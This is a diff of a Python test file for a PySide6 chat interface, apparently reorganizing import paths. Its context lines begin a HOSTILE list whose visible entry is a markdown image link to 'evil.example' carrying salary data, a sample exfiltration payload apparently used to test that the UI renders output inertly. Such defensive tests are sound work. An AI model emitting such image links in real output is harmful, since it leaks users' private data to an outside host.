@@ -6,9 +6,9 @@ from PySide6.QtGui import QTextDocument
 
 from assistant.answers.pipeline import Answer, Timings
 from assistant.library.documents import Hit
-from ui.chat_view import ChatTurn, ChatView, answer_markdown
-from ui.inert import InertBrowser, escape_markdown
-from ui.sources_panel import SourcesPanel
+from ui.panels.chat_view import ChatTurn, ChatView, answer_markdown
+from ui.panels.sources_panel import SourcesPanel
+from ui.widgets.inert import InertBrowser, escape_markdown
 
 HOSTILE = [
     "![secret](http://evil.example/leak.png?d=salary)",
